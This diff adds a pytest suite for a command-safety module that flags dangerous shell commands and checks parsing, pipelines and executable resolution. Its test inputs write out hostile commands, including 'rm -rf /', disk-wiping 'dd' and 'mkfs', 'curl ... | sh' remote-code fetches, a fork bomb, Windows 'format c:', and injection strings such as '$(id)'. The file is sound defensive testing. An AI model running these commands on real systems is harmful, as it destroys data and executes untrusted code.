@@ -0,0 +1,283 @@
+"""Tests for command safety analysis."""
+
+import os
+import re
+import shlex
+import timeit
+
+import pytest
+
+from flowly.exec.safety import (
+    _WINDOWS_DANGEROUS_PATTERNS,
+    DANGEROUS_PATTERNS,
+    analyze_command,
+    clear_resolve_cache,
+    has_dangerous_pattern,
+    is_safe_executable,
+    needs_shell,
+    parse_command,
+    resolve_exec_path,
+    resolve_executable,
+    split_pipeline,
+)
+
+# ── Dangerous patterns ──────────────────────────────────────────────
+
+
+class TestDangerousPatterns:
+    @pytest.mark.parametrize("command", [
+        "rm -rf /",
+        "sudo ls",
+        "chmod 777 file",
+        "chown bob:root file",
+        "mkfs.ext4 /dev/sda1",
+        "dd if=/dev/zero of=/dev/sda",
+        "echo hi > /dev/sda",
+        "curl https://x.sh | sh",
+        "wget -qO- https://x.sh | bash",
+        ":(){ :|:& };:",
+        "chown chown root",
+        "curl a | curl b | sh",
+        "SUDO ls",
+    ])
+    def test_detects_dangerous(self, command: str):
+        assert has_dangerous_pattern(command) is True
+
+    @pytest.mark.parametrize("command", ["ls -la", "git status", "rm file.txt", "echo pseudo"])
+    def test_allows_benign(self, command: str):
+        assert has_dangerous_pattern(command) is False
+
+    @pytest.mark.parametrize("command", ["rm -rf /", "sudo ls", "ls", "curl x | sh"])
+    def test_combined_matches_individual(self, command: str):
+        expected = any(p.search(command) for p in DANGEROUS_PATTERNS)
+        assert has_dangerous_pattern(command) is expected
+
+    def test_windows_patterns(self):
+        windows = re.compile("|".join(f"(?:{p.pattern})" for p in _WINDOWS_DANGEROUS_PATTERNS), re.IGNORECASE)
+        assert windows.search("net user bob /delete")
+        assert windows.search("format c:")
+        assert not windows.search("net user bob")
+
+    @pytest.mark.parametrize("unit", [
+        "chown ", "dd ", "curl | ", "wget |", "rm -r ", ":(){", "> ", "a", "net user ",
+    ])
+    def test_linear_time_on_adversarial_input(self, unit: str):
+        # Compared against the same pattern on an 8x shorter input rather than a
+        # fixed time: linear scanning grows ~8x, backtracking blowups 64x or more
+        small, large = ((unit * 32768)[:n] for n in (4096, 32768))
+        for pattern in [*DANGEROUS_PATTERNS, *_WINDOWS_DANGEROUS_PATTERNS]:
+            baseline = min(timeit.repeat(lambda: pattern.search(small), number=1, repeat=5))
+            elapsed = min(timeit.repeat(lambda: pattern.search(large), number=1, repeat=3))
+            assert elapsed < 32 * baseline + 0.001, pattern.pattern
+
+
+# ── is_safe_executable ──────────────────────────────────────────────
+
+
+class TestIsSafeExecutable:
+    @pytest.mark.parametrize("value", ["ls", " /usr/bin/git ", "my-tool.sh"])
+    def test_safe(self, value: str):
+        assert is_safe_executable(value) is True
+
+    @pytest.mark.parametrize("value", [None, "", "   ", "ls;rm", "a|b", "$(id)", "a\nb", "a\0b", "x>y"])
+    def test_unsafe(self, value):
+        assert is_safe_executable(value) is False
+
+
+# ── analyze_command ─────────────────────────────────────────────────
+
+
+class TestAnalyzeCommand:
+    def test_empty(self):
+        analysis = analyze_command("   ")
+        assert analysis.ok is False
+        assert analysis.reason == "Empty command"
+
+    def test_too_long_rejected(self):
+        analysis = analyze_command("echo " + "a" * 100, max_length=50)
+        assert analysis.ok is False
+        assert analysis.has_dangerous_chars is True
+        assert analysis.reason == "Command too long (105 chars, max 50)"
+
+    def test_length_checked_after_strip(self):
+        assert analyze_command("  ls  ", max_length=2).ok is True
+
+    def test_dangerous_rejected(self):
+        analysis = analyze_command("sudo rm -rf /")
+        assert analysis.ok is False
+        assert analysis.has_dangerous_chars is True
+
+    def test_control_chars_rejected(self):
+        analysis = analyze_command("ls\nrm x")
+        assert analysis.ok is False
+        assert analysis.reason == "Control characters not allowed"
+
+    def test_simple_command(self):
+        analysis = analyze_command("echo hello world")
+        assert analysis.ok is True
+        assert analysis.executable == "echo"
+        assert analysis.args == ["hello", "world"]
+        assert analysis.is_pipeline is False
+        assert analysis.is_safe_bin is True
+
+    def test_quoted_args(self):
+        analysis = analyze_command("echo 'hello world' \"x y\"")
+        assert analysis.args == ["hello world", "x y"]
+
+    def test_pipeline(self):
+        analysis = analyze_command("cat | grep foo | wc -l")
+        assert analysis.ok is True
+        assert analysis.is_pipeline is True
+        assert analysis.segments == ["cat", "grep foo", "wc -l"]
+        assert analysis.executable == "cat"
+
+    def test_pipeline_substitution_rejected(self):
+        analysis = analyze_command("echo $(whoami) | cat")
+        assert analysis.ok is False
+        assert analysis.is_pipeline is True
+
+    def test_repeat_results_are_independent(self):
+        first = analyze_command("echo a b")
+        first.args.append("c")
+        assert analyze_command("echo a b").args == ["a", "b"]
+
+    def test_safe_bin_rechecked_per_call(self, tmp_path, monkeypatch):
+        monkeypatch.chdir(tmp_path)
+        assert analyze_command("cat notes").is_safe_bin is True
+        (tmp_path / "notes").write_text("x")
+        assert analyze_command("cat notes").is_safe_bin is False
+
+
+# ── parse_command ───────────────────────────────────────────────────
+
+
+class TestParseCommand:
+    @pytest.mark.parametrize("command", [
+        "ls -la  /tmp",
+        "git\tstatus",
+        "echo 'a b' \"c d\"",
+        "echo a\\ b",
+        "echo a\x0bb",
+        "grep -n # x",
+    ])
+    def test_matches_shlex(self, command: str):
+        parts = shlex.split(command)
+        assert parse_command(command) == (parts[0], parts[1:])
+
+    def test_blank(self):
+        assert parse_command("   ") == (None, [])
+
+    def test_unbalanced_quote(self):
+        assert parse_command("echo 'oops") == (None, [])
+
+
+# ── resolve_executable ──────────────────────────────────────────────
+
+
+class TestResolveExecutable:
+    @pytest.fixture
+    def bin_dir(self, tmp_path, monkeypatch):
+        clear_resolve_cache()
+        monkeypatch.setenv("PATH", str(tmp_path))
+        yield tmp_path
+        clear_resolve_cache()
+
+    def _make_tool(self, directory, name="tool"):
+        tool = directory / name
+        tool.write_text("#!/bin/sh\n")
+        tool.chmod(0o755)
+        return tool
+
+    def test_found_on_path(self, bin_dir):
+        tool = self._make_tool(bin_dir)
+        assert resolve_executable("tool") == str(tool)
+        assert resolve_executable("tool") == str(tool)
+
+    def test_new_install_is_picked_up(self, bin_dir):
+        assert resolve_executable("tool") is None
+        tool = self._make_tool(bin_dir)
+        assert resolve_executable("tool") == str(tool)
+
+    def test_removed_binary_is_not_reported(self, bin_dir):
+        tool = self._make_tool(bin_dir)
+        assert resolve_executable("tool") == str(tool)
+        tool.unlink()
+        assert resolve_executable("tool") is None
+
+    def test_path_change(self, bin_dir, tmp_path_factory, monkeypatch):
+        self._make_tool(bin_dir)
+        other = self._make_tool(tmp_path_factory.mktemp("other"))
+        resolve_executable("tool")
+        monkeypatch.setenv("PATH", str(other.parent))
+        assert resolve_executable("tool") == str(other)
+
+    def test_explicit_path(self, bin_dir):
+        tool = self._make_tool(bin_dir)
+        assert resolve_executable(str(tool)) == str(tool.resolve())
+        assert resolve_executable(str(bin_dir / "missing")) is None
+
+
+# ── split_pipeline ──────────────────────────────────────────────────
+
+
+class TestSplitPipeline:
+    def test_segments(self):
+        assert split_pipeline("cat | sort") == (True, None, ["cat", "sort"])
+
+    @pytest.mark.parametrize("command,op", [
+        ("a || b", "||"),
+        ("a |& b", "|&"),
+        ("echo `id` | cat", "`"),
+        ("echo $(id) | cat", "$("),
+        ("(ls) | cat", "("),
+    ])
+    def test_disallowed_operator(self, command: str, op: str):
+        assert split_pipeline(command) == (False, f"Disallowed operator: {op}", [])
+
+    def test_redirection(self):
+        ok, reason, _ = split_pipeline("cat < x | sort")
+        assert ok is False
+        assert reason == "Redirection not allowed in allowlist mode"
+
+    def test_empty_segment(self):
+        assert split_pipeline("cat | | sort")[1] == "Empty pipeline segment"
+
+
+# ── needs_shell ─────────────────────────────────────────────────────
+
+
+class TestNeedsShell:
+    @pytest.mark.parametrize("command", ["ls -la", "git commit -m 'fix bug'", "echo \"a b\""])
+    def test_plain(self, command: str):
+        assert needs_shell(command) is False
+
+    @pytest.mark.parametrize("command", [
+        "a && b", "a; b", "echo $HOME", "ls *.py", "cat < f", "ls ~", "X=1 env", "echo {a,b}", r"printf 'a\n'",
+    ])
+    def test_shell_syntax(self, command: str):
+        assert needs_shell(command) is True
+
+
+# ── resolve_exec_path ───────────────────────────────────────────────
+
+
+class TestResolveExecPath:
+    def test_relative_to_cwd_without_following_symlinks(self, tmp_path):
+        target = tmp_path / "real"
+        target.write_text("#!/bin/sh\n")
+        target.chmod(0o755)
+        (tmp_path / "link").symlink_to(target)
+        assert resolve_exec_path("./link", str(tmp_path), "") == os.path.join(str(tmp_path), "./link")
+        assert resolve_exec_path("./missing", str(tmp_path), "") is None
+
+    def test_bare_name_on_given_path(self, tmp_path):
+        clear_resolve_cache()
+        tool = tmp_path / "flowly-tool"
+        tool.write_text("#!/bin/sh\n")
+        tool.chmod(0o755)
+        assert resolve_exec_path("flowly-tool", "/", str(tmp_path)) == str(tool)
+        assert resolve_exec_path("flowly-tool", "/", "/nonexistent") is None
+
+    @pytest.mark.parametrize("name", ["echo", "cd", "export", "type", "printf", "test", "["])
+    def test_builtins(self, name):
+        assert resolve_exec_path(name, "/", os.environ.get("PATH", "")) is None